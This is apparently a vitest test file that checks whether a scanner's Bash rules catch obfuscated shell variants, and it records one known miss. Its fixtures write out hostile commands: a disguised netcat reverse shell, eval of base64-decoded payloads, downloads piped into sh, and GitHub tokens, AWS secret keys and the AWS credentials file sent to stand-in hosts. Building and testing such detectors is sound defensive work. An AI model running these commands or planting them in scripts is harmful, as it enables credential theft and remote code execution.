import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseRuleFile } from '../../../../src/core/rules/schema.js';
import { compileRule } from '../../../../src/core/scan/compile.js';
import { callRuleMatches } from '../../../../src/core/semantics/rules.js';
import { taintRuleMatches } from '../../../../src/core/semantics/taint/rules.js';

// Shell variants written before the Bash rules and kept out of their tests: each case pins what
// the rules catch of it today, misses written as expected misses. First run: 11 of 13; the
// `local` variant was then caught by fixing where an assignment after `local x` binds. A file
// read is no taint source (only environment secrets are), so the credentials file is missed.
const load = (file: string) =>
  parseRuleFile(file, readFileSync(file, 'utf8'))
    .filter((r) => r.id.startsWith('sh.'))
    .map((r) => compileRule(r, file));
const RULES = [...load('rules/semantic.yml'), ...load('rules/bash.yml')];

const HIDDEN = 'sh.obfuscation.hidden-command';
const EVAL = 'sh.obfuscation.eval-decoded-string';
const DOWNLOAD = 'sh.backdoor.download-run-through-variable';
const EXFIL = 'sh.exfiltration.secret-variable-sent-over-network';

const VARIANTS: { name: string; rule: string; code: string; caught: boolean }[] = [
  { name: 'name joined from two variables', rule: HIDDEN, code: 'p1=cu; p2=rl\n"$p1$p2" -fsSL https://x.example/i.sh -o /tmp/i.sh\n', caught: true },
  { name: 'name from printf hex escapes', rule: HIDDEN, code: "tool=$(printf '\\x77\\x67\\x65\\x74')\n$tool -q https://x.example/a\n", caught: true },
  { name: 'name reversed with rev', rule: HIDDEN, code: "n=$(echo 'cn' | rev)\n$n 10.0.0.1 4444 -e /bin/sh\n", caught: true },
  { name: 'local in a function, decoded from a here-string', rule: HIDDEN, code: "run() {\n  local bin\n  bin=$(base64 -d <<< 'cHl0aG9u')\n  $bin -c 'import os'\n}\n", caught: true },
  { name: 'eval of a variable decoded with --decode', rule: EVAL, code: "payload=$(echo 'ZWNobyBwd25lZA==' | base64 --decode)\neval \"$payload\"\n", caught: true },
  { name: 'bash -c of pieces joined by printf', rule: EVAL, code: "s=$(printf '%s' 'rm -rf ' '/tmp/x')\nbash -c \"$s\"\n", caught: true },
  { name: 'dot-source of a printf process substitution', rule: EVAL, code: ". <(printf 'id\\n')\n", caught: true },
  { name: 'download into a variable, run with bash -c', rule: DOWNLOAD, code: 'u=https://get.example.com/i.sh\nbody=$(curl -fsSL "$u")\nbash -c "$body"\n', caught: true },
  { name: 'downloader named by a variable piped into sh', rule: DOWNLOAD, code: 'fetch=wget\n$fetch -qO- https://x.example/s | sh\n', caught: true },
  { name: 'download piped into $SHELL', rule: DOWNLOAD, code: 'curl -s "$U" | $SHELL\n', caught: true },
  { name: 'token copied to a variable, sent with -d', rule: EXFIL, code: 't=$GITHUB_TOKEN\ncurl -s -d "tok=$t" https://collector.example.com/\n', caught: true },
  { name: 'AWS key quoted into a variable, sent with wget --post-data', rule: EXFIL, code: 'creds="$AWS_SECRET_ACCESS_KEY"\nwget --post-data="k=$creds" https://x.example/\n', caught: true },
  { name: 'credentials file read into a variable, sent in the URL', rule: EXFIL, code: 'k=$(cat ~/.aws/credentials | base64 -w0)\ncurl "https://x.example/?k=$k"\n', caught: false },
];

describe('held-back Bash variants', () => {
  it.each(VARIANTS)('$name', ({ rule, code, caught }) => {
    const lines = code.split('\n').map((_, i) => i + 1);
    const calls = callRuleMatches(RULES, 'bash', code, lines);
    const taint = taintRuleMatches(RULES, 'bash', code, lines);
    expect(calls.gaveUp).toBeNull();
    expect(taint.gaveUp).toBeNull();
    const fired = [...calls.matches, ...taint.matches].map((m) => m.ruleId);
    expect(fired.includes(rule)).toBe(caught);
  });
});
